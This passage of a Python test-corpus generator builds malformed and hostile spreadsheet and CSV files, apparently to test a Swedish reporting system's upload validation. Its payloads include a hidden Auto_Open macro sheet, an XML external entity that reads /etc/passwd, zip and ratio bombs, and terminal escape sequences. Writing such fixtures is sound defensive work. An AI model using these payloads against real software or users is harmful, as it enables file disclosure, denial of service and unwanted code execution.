    return edited(out, cycle, "defined-name-dde.xlsx", change)


@case("xlm-macro-sheet.xlsx")
def _xlm_sheet(out: Path, cycle: Cycle) -> Path:
    """An Excel 4.0 macro sheet started by Auto_Open, inside an ordinary .xlsx (no vbaProject.bin)."""
    path = valid(out, cycle, "xlm-macro-sheet.xlsx")
    change = _add_to_package(
        "xl/macrosheets/sheet1.xml", b"application/vnd.ms-excel.macrosheet+xml",
        b'<Relationship Type="http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet" Target="/xl/macrosheets/sheet1.xml" Id="rIdXlm"/>',
        b'<sheet xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" name="Makro1" sheetId="99" state="veryHidden" r:id="rIdXlm"/>',
        b'<definedName name="_xlnm.Auto_Open" hidden="1">Makro1!$A$1</definedName>')
    return rezip(path, change, [("xl/macrosheets/sheet1.xml", XLM_SHEET)])


@case("auto-open-name.xlsx")
def _auto_open(out: Path, cycle: Cycle) -> Path:
    """Only the name Auto_Open, as left behind when a macro sheet is deleted by hand."""
    path = valid(out, cycle, "auto-open-name.xlsx")
    name = b'<definedNames><definedName name="Auto_Open">Indikatorer!$A$1</definedName></definedNames>'
    return rezip(path, lambda n, d: d.replace(b"<definedNames/>", name) if n == "xl/workbook.xml" else d)


@case("dtd-in-renamed-part.xlsx")
def _dtd_renamed(out: Path, cycle: Cycle) -> Path:
    """The shared strings under the name xl/tekst.dat, with an external entity for /etc/passwd in the Status cell."""
    path = valid(out, cycle, "dtd-in-renamed-part.xlsx")
    part = sheet_part(path, "Indikatorer")
    strings = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><!DOCTYPE sst [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>'
               b'<sst xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main" count="1" uniqueCount="1"><si><t>&xxe;</t></si></sst>')
    register = _add_to_package(
        "xl/tekst.dat", b"application/vnd.openxmlformats-officedocument.spreadsheetml.sharedStrings+xml",
        b'<Relationship Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/sharedStrings" Target="/xl/tekst.dat" Id="rIdSst"/>')

    def change(name: str, data: bytes) -> bytes:
        if name == part:
            return data.replace(b't="inlineStr"><is><t>Uppfylls helt</t></is></c>', b't="s"><v>0</v></c>', 1)
        return register(name, data)
    return rezip(path, change, [("xl/tekst.dat", strings)])

# --- Hostile values: numbers no report can print, control characters from Word (issue 12) -----


@case("number-5001-digits.xlsx")
def _number_5001_digits(out: Path, cycle: Cycle) -> Path:
    """A 5 001-digit Budget typed as text: once it stopped every file's intake with decimal.InvalidOperation."""
    return edited(out, cycle, "number-5001-digits.xlsx", setting("Ekonomi", 4, "Budget", "9" * 5001), contributor="stab")


@case("number-exponent.xlsx")
def _number_exponent(out: Path, cycle: Cycle) -> Path:
    """'1e999999' typed as text: not 1 with the unit 'e999999'."""
    return edited(out, cycle, "number-exponent.xlsx", setting("Indikatorer", 3, "Periodens utfall", "1e999999"))


@case("number-cell-1e300.xlsx")
def _number_cell_huge(out: Path, cycle: Cycle) -> Path:
    """A number cell holding 1E+300: a finite float, but a 301-digit number."""
    return number_cell(out, cycle, "number-cell-1e300.xlsx", b"1E+300")


@case("vertical-tab-from-word.xlsx")
def _vertical_tab(out: Path, cycle: Cycle) -> Path:
    """An Analys pasted from Word with its manual line break: Excel stores the vertical tab as _x000B_."""
    path = valid(out, cycle, "vertical-tab-from-word.xlsx")
    part = sheet_part(path, "Mål")
    analysis = f"Målet {filled_rows(cycle, 'barn')['goals'][0]['goal']} nås enligt plan.".encode("ascii", "xmlcharrefreplace")
    pasted = analysis.replace(b" enligt", b"_x000B_enligt").replace(b"plan.", b"plan._x0007__x001B_")
    return rezip(path, lambda n, d: d.replace(analysis, pasted, 1) if n == part else d)


@case("csv-control-characters")
def _csv_control(out: Path, cycle: Cycle) -> Path:
    """A CSV folder whose first Analys holds a terminal escape, a bell and CR line ends."""
    rows = filled_rows(cycle, "barn")
    rows["goals"][0]["analysis"] = "Målet nås\renligt plan.\x1b[31m Röd\x1b[0m\x07"
    return write_csv_folder(out / "csv-control-characters", cycle, "barn", rows, EXAMPLE_TOKEN_KEY)


# --- Large cases: built at test time, not committed -------------------------------------------


def write_many_rows(path: Path, cycle: Cycle, rows: int = 100_000) -> Path:
    """Barn's workbook with an Indikatorer sheet of `rows` filled rows below the headers."""
    source = valid(path.parent, cycle, path.name)
    part = sheet_part(source, "Indikatorer")
    headers = [c.value for c in openpyxl.load_workbook(source)["Indikatorer"][1]]
    lines = [_inline_row(1, headers)] + [_inline_row(r, [f"9.{r}-I1", f"Indikator {r}", "1.1", "%", "Tertial 1 2025", "50 %"]) for r in range(2, rows + 2)]
    xml = (b'<?xml version="1.0" encoding="UTF-8" standalone="yes"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
           b"<sheetData>" + "".join(lines).encode() + b"</sheetData></worksheet>")
    return rezip(source, lambda n, d: xml if n == part else d)


def _inline_row(row: int, values: list[str]) -> str:
    cells = "".join(f'<c r="{get_column_letter(i)}{row}" t="inlineStr"><is><t>{v}</t></is></c>' for i, v in enumerate(values, start=1))
    return f'<row r="{row}">{cells}</row>'


def write_huge_text(path: Path, cycle: Cycle, chars: int = 100_000) -> Path:
    """Barn's workbook with `chars` characters in the Analys of the first goal (Mål, row 2).

    Written into the sheet XML: Excel and openpyxl stop at 32 767 characters, other programs do not.
    """
    source = valid(path.parent, cycle, path.name)
    part = sheet_part(source, "Mål")
    analysis = f"Målet {filled_rows(cycle, 'barn')['goals'][0]['goal']} nås enligt plan.".encode("ascii", "xmlcharrefreplace")
    text = ("Lång analys. " * (chars // 13 + 1))[:chars].encode("ascii", "xmlcharrefreplace")
    return rezip(source, lambda n, d: d.replace(analysis, text, 1) if n == part else d)


def write_huge_csv_field(folder: Path, cycle: Cycle, chars: int = 100_000) -> Path:
    """Stab's CSV folder with `chars` characters in its first text (texter.csv, row 2)."""
    rows = filled_rows(cycle, "stab")
    rows["texts"][0]["text"] = ("Lång text. " * (chars // 11 + 1))[:chars]
    return write_csv_folder(folder, cycle, "stab", rows, EXAMPLE_TOKEN_KEY)


def write_zip_bomb(path: Path, cycle: Cycle, unpacked: int = 210 * 1024 * 1024) -> Path:
    """Barn's workbook whose Indikatorer sheet unpacks to `unpacked` bytes (packed, about 1/1000 of that)."""
    source = valid(path.parent, cycle, path.name)
    part = sheet_part(source, "Indikatorer")
    parts = parts_of(source)
    with zipfile.ZipFile(source, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in parts:
            if name != part:
                archive.writestr(zipfile.ZipInfo(name, date_time=ZIP_TIME), data, zipfile.ZIP_DEFLATED)
                continue
            head, tail = data.split(b"<sheetData>", 1)
            info = zipfile.ZipInfo(name, date_time=ZIP_TIME)
            info.compress_type = zipfile.ZIP_DEFLATED
            with archive.open(info, "w", force_zip64=True) as stream:
                stream.write(head + b"<sheetData>")
                block = b" " * (1 << 20)
                for _ in range(unpacked // len(block)):
                    stream.write(block)
                stream.write(tail)
    return source


def write_ratio_bomb(path: Path, cycle: Cycle, unpacked: int = 20 * 1024 * 1024) -> Path:
    """Under the size limit, but one part packed 1 000 times: refused by the compression ratio."""
    return write_zip_bomb(path, cycle, unpacked)


# --- Numbers as contributors really type them (issue 16) -------------------------------------------------


@case("number-turned-date.xlsx")
def _number_turned_date(out: Path, cycle: Cycle) -> Path:
    """5,2 typed where Excel reads it as a date: a real date cell in a number column."""
    return edited(out, cycle, "number-turned-date.xlsx", setting("Indikatorer", 3, "Prognos helår", dt.datetime(2025, 2, 5)))


@case("number-truncated.xlsx")
def _number_truncated(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "number-truncated.xlsx", setting("Indikatorer", 3, "Periodens utfall", "118,"))


@case("number-range.xlsx")
def _number_range(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "number-range.xlsx", setting("Indikatorer", 2, "Prognos helår", "24–25 %"))


@case("count-comma-thousands.xlsx")
def _count_comma_thousands(out: Path, cycle: Cycle) -> Path:
    return edited(out, cycle, "count-comma-thousands.xlsx", setting("Indikatorer", 3, "Periodens utfall", "1,330 st"))


@case("id-cleared.xlsx")
def _id_cleared(out: Path, cycle: Cycle) -> Path:
    """The Id of a row deleted by mistake; its name and values stay."""
    return edited(out, cycle, "id-cleared.xlsx", setting("Indikatorer", 3, "Id", None))


# --- Writing the corpus ---------------------------------------------------------------------


def generate(out: Path, cycle: Cycle | None = None) -> list[Path]:
    """Write every case into `out` (emptied first); the paths in case order."""
    cycle = cycle or load_cycle(MINI)
    if out.exists():
        shutil.rmtree(out)
    out.mkdir(parents=True)
    paths = []
    for name, build in CASES.items():
        path = build(out, cycle)
        assert path.name == name, f"{build.__name__} wrote {path.name}, registered as {name}"
        paths.append(path)
    return paths


if __name__ == "__main__":
    target = Path(sys.argv[1]) if len(sys.argv) > 1 else BAD
    written = generate(target)
    print(f"{len(written)} fall skrivna till {target}")
